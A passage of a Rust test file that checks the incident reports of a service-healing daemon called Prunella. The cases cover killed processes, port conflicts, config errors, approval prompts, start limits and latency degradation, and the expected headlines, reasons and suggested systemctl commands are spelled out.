            (4_000, handed_over),
            (9_000_000, approved),
            diagnosed(vec![by_log]),
        ],
        Some(healed),
    );
    for later in &mut record.steps[2..] {
        later.attempt = 2;
    }
    let report = report(&record);
    assert_eq!(
        report.reason,
        "Its main process was killed by SIGKILL. It was kept down by this: process 7 (nc) holds \
         tcp/80, which it needs; root approved, and it was done: terminate process 7 (nc)."
    );
    assert_eq!(report.to_do, "Nothing to do now.");
    assert_eq!(report.findings, []);
    // Without an earlier word to people there is nothing to add.
    record.steps.remove(1);
    assert_eq!(self::report(&record).obstacle, None);
}

#[test]
fn a_signal_is_told_though_a_later_command_failed() {
    let detection = Detection {
        signal: Some("KILL".to_owned()),
        ..detection(DetectedBy::Signal, "exit-code")
    };
    let report = report(&record(detection, Vec::new(), None));
    assert!(
        report
            .what_failed
            .starts_with("its main process was killed by SIGKILL, and a command"),
        "{}",
        report.what_failed
    );
    assert_eq!(
        report.headline,
        "web.service is down (SIGKILL), being healed"
    );
}

/// Who ended the first run has nothing to do with what fails since.
#[test]
fn a_kill_of_the_first_run_is_no_cause_of_what_fails_since() {
    let again = Step::FailedAgain {
        cause: "exit-code".into(),
        exit_code: Some(1),
        signal: None,
        lines: vec!["license file is missing".to_owned()],
    };
    let healed = Ending::Healed {
        strategy: name("service-restart"),
        recovered_after: None,
        served_by: None,
    };
    let steps = vec![(2_000, again), diagnosed(vec![kill_requested()])];
    let report = report(&record(killed(), steps, Some(healed)));
    assert_eq!(
        report.reason,
        "Its main process exited with code 1; its last line: “license file is missing”."
    );
    assert_eq!(report.to_do, "Nothing to do now.");
}

/// The holder of a port stands in the subject, and not at the end of a long sentence.
#[test]
fn what_was_seen_on_the_host_leads_over_a_strategys_long_sentence() {
    let held = finding(
        diagnosis::Cause::AddressInUse,
        diagnosis::Source::Resources,
        "stranger.service holds tcp/80, which it needs",
    );
    let veto = assessed(
        "port-conflict",
        Assessment::Veto {
            reason: "tcp/80 (127.0.0.1) is held by /usr/bin/nc (pid 7, user root)".to_owned(),
        },
    );
    let escalated = Ending::Escalated {
        reason: "tcp/80 (127.0.0.1) is held by /usr/bin/nc (pid 7, user root)".to_owned(),
        retry_at: None,
    };
    let report = report(&record(
        killed(),
        vec![veto, diagnosed(vec![held])],
        Some(escalated),
    ));
    assert_eq!(
        report.headline,
        "web.service needs a person: stranger.service holds tcp/80, which it needs"
    );
    assert_eq!(report.to_do, "Do something about address-in-use.");
    assert_eq!(report.findings.len(), 2);
}

/// What a checker says of a file is told with its place first, once, and with the commands of
/// a person who is not root.
#[test]
fn a_mistake_in_a_file_is_told_by_its_place() {
    let said = "check `config` fails: 2026/11/30 09:54:51 [emerg] 986#986: unknown directive \
                \"worker_connection\" in /etc/nginx/nginx.conf:8 | nginx: configuration file \
                /etc/nginx/nginx.conf test failed";
    let veto = Assessment::Veto {
        reason: said.to_owned(),
    };
    let broken = diagnosis::Finding {
        advice: Some("Mend it, and start it again: systemctl restart web.service".to_owned()),
        ..finding(
            diagnosis::Cause::BadConfig,
            diagnosis::Source::Log,
            "there is a mistake in /etc/nginx/nginx.conf",
        )
    };
    let escalated = Ending::Escalated {
        reason: said.to_owned(),
        retry_at: None,
    };
    let record = record(
        detection(DetectedBy::Signal, "exit-code"),
        vec![assessed("config-validation", veto), diagnosed(vec![broken])],
        Some(escalated),
    );
    let service = service();
    let report = Report::from_record(
        &record,
        &ReportContext {
            hostname: "shop-1".to_owned(),
            service: Some(&service),
            boot_id: Some("boot".to_owned()),
            past: &[],
            now: None,
            zone: TimeZone::UTC,
            sudo: true,
        },
    );
    let place = "/etc/nginx/nginx.conf:8: unknown directive \"worker_connection\"";
    assert_eq!(
        report.headline,
        format!("web.service needs a person: {place}")
    );
    assert!(
        report
            .reason
            .ends_with(&format!("; check `config` fails: {place}.")),
        "{}",
        report.reason
    );
    let causes: Vec<&str> = report
        .findings
        .iter()
        .map(|one| one.from.as_str())
        .collect();
    assert_eq!(causes, ["config-validation"], "the log says the same");
    assert!(
        report.to_do.ends_with("sudo systemctl restart web.service"),
        "{}",
        report.to_do
    );
}

/// A start would fail as long as somebody else holds the port.
#[test]
fn after_a_denial_what_is_in_the_way_goes_before_the_start() {
    let held = diagnosis::Finding {
        manual_steps: vec![diagnosis::ManualStep::StopUnit {
            unit: "stranger.service".parse().unwrap(),
        }],
        ..finding(
            diagnosis::Cause::AddressInUse,
            diagnosis::Source::Resources,
            "stranger.service holds tcp/80, which it needs",
        )
    };
    let denied = Step::ActDenied {
        strategy: name("port-conflict"),
        act: "process-control.terminate".to_owned(),
        target: "process 7 (nc)".to_owned(),
        failure: Failure::denied("disapproved", "root (uid 0) has denied it"),
    };
    let report = report(&record(
        killed(),
        vec![(2_000, denied), diagnosed(vec![held])],
        escalation(),
    ));
    assert_eq!(
        commands(&report.next)[..2],
        [
            "systemctl stop stranger.service",
            "systemctl start web.service"
        ]
    );
}

#[test]
fn the_last_line_has_nothing_to_do_with_a_signal_from_elsewhere() {
    let ready = Step::Evidence {
        lines: vec!["ready".to_owned()],
    };
    let report = report(&record(killed(), vec![(2_000, ready)], None));
    assert_eq!(report.reason, "Its main process was killed by SIGKILL.");
    assert_eq!(
        report.headline,
        "web.service is down (SIGKILL), being healed"
    );
}

/// A question leads while it is open; one that is over, or was asked again, is not listed.
#[test]
fn an_open_question_leads_and_a_spent_one_is_gone() {
    let proposed = |approval: &str, until: u64| Step::Proposed {
        approval: approval.to_owned(),
        strategy: name("port-conflict"),
        act: "process-control.terminate".to_owned(),
        target: "process 7 (nc)".to_owned(),
        plan: None,
        until: Timestamp::from_millis(until),
    };
    let later = FAILED + 3_600_000;
    let steps = vec![
        (2_000, proposed("x.1", later)),
        (3_000, proposed("x.2", later)),
    ];
    let asked = report(&record(killed(), steps, escalation()));
    assert_eq!(
        asked.headline,
        "web.service waits for approval to terminate process 7 (nc)"
    );
    assert!(
        asked
            .to_do
            .starts_with("Decide whether Prunella may terminate process 7 (nc): "),
        "{}",
        asked.to_do
    );
    let approve = |report: &Report| {
        commands(&report.next)
            .into_iter()
            .filter(|command| command.contains("approve"))
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };
    assert_eq!(approve(&asked), ["prunella approve x.2"]);

    let spent = vec![(2_000, proposed("x.1", FAILED + 60_000))];
    let spent = report(&record(killed(), spent, escalation()));
    assert!(!spent.headline.contains("approval"), "{}", spent.headline);
    assert_eq!(approve(&spent), Vec::<String>::new());
}

/// Once the service is known to be up, nothing of its last escalation is left to do.
#[test]
fn a_report_of_what_is_over_leaves_nothing_to_do() {
    let escalated = report(&escalated());
    assert!(escalated.needs_people && !escalated.next.is_empty() && escalated.plan.is_some());
    let over = escalated.is_over();
    assert_eq!(over.to_do, "Nothing to do now.");
    assert_eq!((over.next, over.plan), (Vec::new(), None));
    assert_eq!(over.recommendation, None);
    assert!(!over.needs_people);
}

/// Whoever reads of an open incident learns whether anybody is at work on it.
#[rstest]
#[case::prunella(None, "is down (SIGKILL), being healed", "Prunella is healing it")]
#[case::systemd(
    Some(waits(Awaited::SystemdRestart)),
    "is down (SIGKILL), systemd is restarting it",
    "Prunella does not interfere"
)]
#[case::prunella_whose_start_takes_long(
    Some(waits(Awaited::Unit)),
    "is down (SIGKILL), being healed",
    "Prunella is healing it"
)]
#[case::nobody(
    Some(waits(Awaited::Budget)),
    "is down (SIGKILL), waiting to be healed",
    "Prunella tries again on"
)]
#[case::nobody_has_to(
    Some(Step::Answering { evidence: Vec::new(), after: None }),
    "failed (SIGKILL) and is up again",
    "Nothing: it is up again"
)]
fn an_open_incident_says_who_is_at_work(
    #[case] last: Option<Step>,
    #[case] headline: &str,
    #[case] to_do: &str,
) {
    let steps = last.into_iter().map(|step| (2_000, step)).collect();
    let report = report(&record(killed(), steps, None));
    assert_eq!(report.headline, format!("web.service {headline}"));
    assert!(report.to_do.contains(to_do), "{}", report.to_do);
}

fn waits(on: Awaited) -> Step {
    Step::Waits {
        on,
        reason: "it waits".to_owned(),
        up_to: Duration::from_secs(20),
    }
}

#[test]
fn a_start_limit_that_is_left_to_people_is_told_with_its_cause() {
    let expired = Step::Evidence {
        lines: vec!["license is expired".to_owned()],
    };
    let left = Ending::LeftAlone {
        why: LeftAlone::StartLimit,
        detail: "another start was refused".to_owned(),
    };
    let detection = Detection {
        exit_code: Some(1),
        ..detection(DetectedBy::Signal, "exit-code")
    };
    let report = report(&record(detection, vec![(2_000, expired)], Some(left)));
    assert_eq!(
        report.headline,
        "web.service needs a person: it has hit its start limit (exit code 1: license is expired)"
    );
    assert_eq!(
        report.to_do,
        "Remove the cause, then clear the start limit and start it."
    );
}

fn symptom() -> Symptom {
    Symptom {
        level: SymptomLevel::Degraded,
        metric: Metric::LatencyMs,
        instance: Some("front".to_owned()),
        value: 1_502,
        threshold: 1_000,
        clear: 800,
        since: Timestamp::from_millis(FAILED),
        evidence: "probe `front` took 1,502 ms to answer, with a limit of 1,000 ms".to_owned(),
        confirmed: true,
    }
}

fn degradation() -> Detection {
    Detection {
        symptoms: vec![symptom()],
        ..detection(DetectedBy::Symptom, "degraded")
    }
}

fn watches(reason: &str, tried: bool) -> (u64, Step) {
    let step = Step::Watches {
        symptoms: vec![symptom()],
        reason: reason.to_owned(),
        tried,
    };
    (30_000_000, step)
}

#[test]
fn a_degradation_says_what_since_when_and_how_to_let_prunella_act() {
    let told = watches("`heal-degraded` lists no strategy that may act", false);
    let mut service = service();
    service.declared_in = Some("/etc/prunella/services.d/web.toml".into());
    let report = report_of(&record(degradation(), vec![told], None), &service, &[]);
    assert_eq!(
        report.headline,
        "web.service is slow: probe `front` took 1,502 ms to answer, with a limit of 1,000 ms"
    );
    assert_eq!(
        report.reason,
        "Since Sat 2026-11-21 15:39:41 +01: latency of probe `front` 1,502 ms, with a limit of \
         1,000 ms; no cause is known."
    );
    assert!(
        report.to_do.ends_with(
            "Prunella does not act on it by itself. To let it, write `heal-degraded = \
             [\"service-restart\"]` in /etc/prunella/services.d/web.toml."
        ),
        "{}",
        report.to_do
    );
    assert_eq!(report.kind, AlertKind::Degradation);
    assert_eq!(report.severity, Severity::Warning);
    assert_eq!(report.outcome, "degraded");
    assert!(!report.needs_people);
    assert_eq!(
        commands(&report.next).last(),
        Some(&"prunella heal web.service --restart")
    );
}

#[test]
fn a_degradation_that_no_healing_helped_needs_a_person() {
    let told = watches("service-restart did not help", true);
    let report = report(&record(degradation(), vec![told], None));
    assert!(
        report
            .headline
            .starts_with("web.service is slow, and no healing helped: probe `front`"),
        "{}",
        report.headline
    );
    assert!(report.needs_people);
    assert_eq!(report.kind, AlertKind::Escalation);
    assert_eq!(report.severity, Severity::Critical, "its service is");
    assert!(
        report.to_do.contains("service-restart did not help"),
        "{}",
        report.to_do
    );
}

#[test]
fn the_end_of_a_degradation_says_how_long_and_how_bad() {
    let cleared = Step::Cleared {
        symptoms: vec![Symptom {
            value: 2_345,
            ..symptom()
        }],
        lasted: Duration::from_secs(14 * 60),
    };
    let told = watches("`heal-degraded` lists no strategy that may act", false);
    let ending = Ending::Recovered {
        by: "its symptoms have cleared by themselves".to_owned(),
    };
    let steps = vec![told, (870_000_000, cleared)];
    let report = report(&record(degradation(), steps, Some(ending)));
    assert_eq!(report.headline, "web.service is no longer degraded");
    assert_eq!(
        report.reason,
        "It was degraded for 14 min: latency of probe `front` up to 2,345 ms, with a limit of \
         1,000 ms."
    );
    assert_eq!(report.to_do, "Nothing to do now.");
    assert_eq!(report.kind, AlertKind::Recovery);
}

#[test]
fn a_degradation_that_waits_for_another_unit_says_so() {
    let ending = Ending::Blocked {
        on: "db.service".parse().unwrap(),
        reason: "db.service is degraded: it is slow".to_owned(),
    };
    let report = report(&record(degradation(), Vec::new(), Some(ending)));
    assert_eq!(
        report.headline,
        "web.service is degraded, waiting for db.service"
    );
    assert!(
        report.to_do.starts_with("Nothing here: see to db.service"),
        "{}",
        report.to_do
    );
}
